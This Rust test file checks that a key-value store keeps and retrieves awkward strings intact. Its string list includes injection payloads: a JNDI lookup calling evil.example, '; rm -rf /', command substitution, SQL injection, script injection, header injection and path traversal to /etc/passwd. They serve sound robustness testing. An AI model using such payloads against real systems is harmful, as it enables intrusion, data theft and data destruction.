//! Any text is an id, a path, a value and a name: lists of texts that break things elsewhere.

use std::{env, fs, path::PathBuf};

use kvs::{From, Index, IndexKey, Record, Store};
use serde::{Deserialize, Serialize};

use crate::common::each;

#[derive(Debug, PartialEq, Serialize, Deserialize)]
struct Text(String);

impl Record for Text {
    const TABLE: &'static str = "text";
    const INDEXES: &'static [Index<Self>] = &[
        Index::unique("whole", |text| vec![IndexKey::of(&text.0)]),
        Index::many("words", |text| IndexKey::words(&text.0)),
    ];
    fn id(&self) -> std::borrow::Cow<'_, str> {
        (&self.0).into()
    }
}

/// Stores every text in every place a text can be in, and finds it again.
async fn keep(store: Store, mut texts: Vec<String>) {
    texts.sort();
    texts.dedup();
    let mut txn = store.txn();
    for text in &texts {
        txn.put(&Text(text.clone())).unwrap();
        txn.append(text, text).unwrap();
        txn.append("/all", text).unwrap();
        txn.save(text, &kvs::Cursor::after(text, 1)).unwrap();
    }
    txn.commit().await.unwrap();

    let all: Vec<Text> = store.txn().range("", None, usize::MAX).await.unwrap();
    assert_eq!(all.iter().map(|text| &text.0).collect::<Vec<_>>(), texts.iter().collect::<Vec<_>>());
    for text in &texts {
        let mut txn = store.txn();
        assert_eq!(txn.get::<Text>(text).await.unwrap().unwrap().0, *text);
        let entries: Vec<(u64, String)> = txn.feed(text, From::Start, 9).await.unwrap();
        assert_eq!(entries, [(1, text.clone())]);
        let found = txn.find_one::<Text>("whole", IndexKey::of(text)).await.unwrap();
        assert_eq!(found.unwrap().0, *text);
        assert_eq!(txn.load(text).await.unwrap().unwrap().feed(), text);
    }
    assert_eq!(store.txn().count("/all").await.unwrap(), texts.len() as u64);
    assert_eq!(store.check(|_| ()).await.unwrap().wrong, 0);

    let mut dumped = Vec::new();
    store.dump(&mut dumped, |_| ()).await.unwrap();
    let loaded = Store::open("memory:").await.unwrap();
    loaded.load(&*dumped, |_| ()).await.unwrap();
    loaded.reindex::<Text>(|_| ()).await.unwrap();
    assert_eq!(loaded.txn().range::<Text>("", None, usize::MAX).await.unwrap(), all);
}

#[tokio::test]
async fn texts_that_break_things_elsewhere_are_kept() {
    let long = "\u{1f980}".repeat(1024);
    let texts = [
        "",
        " ",
        "\0",
        "\0\0",
        "a\0b",
        "\u{1}",
        "/",
        "//",
        "/a/../b",
        "..",
        "%2f",
        "\\",
        "'",
        "\"",
        "'; drop table kvs; --",
        "\u{feff}",
        "\u{202e}abc",
        "\u{10ffff}",
        "\u{fffd}",
        "e\u{301}",
        "\u{e9}",
        "\u{456}\u{457}",
        // Letters that are one, and letters that look like one.
        "\u{430}\u{440}\u{440}le",
        "\u{ff21}\u{ff22}",
        "\u{131}\u{130}i\u{307}",
        "stra\u{df}e",
        "STRASSE",
        "\u{1e9e}",
        "\u{3a3}\u{3c3}\u{3c2}",
        "\u{fb01}",
        "\u{2126}\u{3a9}",
        "\u{1100}\u{1161}\u{ac00}",
        "\u{5d0}\u{5b8}\u{627}\u{64b}",
        "\u{e01}\u{e33}\u{915}\u{94d}\u{937}",
        "\u{4e2d}\u{6587}\u{20000}",
        // What is not seen.
        "ann\u{200b}",
        "ann\u{200d}",
        "\u{ad}",
        "\u{2060}\u{180e}",
        "\u{2066}a\u{2069}",
        "\u{e0001}\u{e0041}",
        "\u{a0}\u{1680}\u{2003}\u{3000}",
        "\t\u{b}\u{c}\u{85}\u{2028}\u{2029}",
        "\u{7f}\u{80}\u{9f}",
        "\u{fdd0}\u{ffff}\u{e000}",
        // What is drawn of several.
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "\u{1f44d}\u{1f3ff}",
        "\u{1f1fa}\u{1f1e6}",
        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
        "\u{660}\u{661}\u{b2}\u{2167}",
        // What means something to somebody.
        "\r\nSet-Cookie: a=b",
        "\n",
        "a\tb",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%s%n%x",
        "%00",
        "$(id)",
        "`id`",
        "; rm -rf /",
        "--help",
        "CON",
        "aux.txt",
        "C:\\",
        "file:///etc/passwd",
        "../../../../etc/passwd",
        "~",
        ".",
        "*",
        "?",
        "#",
        "&amp;",
        "<script>alert(1)</script>",
        "1; select 1",
        "\" or \"\"=\"",
        "()",
        "__proto__",
        "constructor",
        "undefined",
        "nil",
        "None",
        "NaN",
        "Infinity",
        "-0",
        "0x10",
        "1_000",
        "9223372036854775808",
        "18446744073709551616",
        "1/0",
        "2026-02-30",
        "\r\n",
        "NULL",
        "true",
        "0",
        "-1",
        "1e309",
        "$cbor",
        "{\"$cbor\":\"00\"}",
        &"x".repeat(4096),
        &"x".repeat(4095),
        &long,
        &"\0".repeat(1365),
    ];
    let mut texts = texts.map(str::to_owned).to_vec();
    if let Some(path) = shared("corpora/strings/naughty.jsonl") {
        let shared = fs::read_to_string(&path).unwrap();
        let shared = shared.lines().map(|line| {
            let line: serde_json::Value = serde_json::from_str(line).unwrap();
            line["s"].as_str().unwrap().to_owned()
        });
        let own = texts.len();
        texts.extend(shared.filter(|text| text.len() <= 4096));
        assert!(texts.len() > own + 100, "{} has {} texts", path.display(), texts.len() - own);
    }
    each(async |store| keep(store, texts.clone()).await).await;
}

/// A file of the shared test data, when it is named; a named one that is not there fails.
fn shared(path: &str) -> Option<PathBuf> {
    let path = PathBuf::from(env::var_os("N2O_SHARED")?).join(path);
    assert!(path.exists(), "{} is named by N2O_SHARED and not there", path.display());
    Some(path)
}
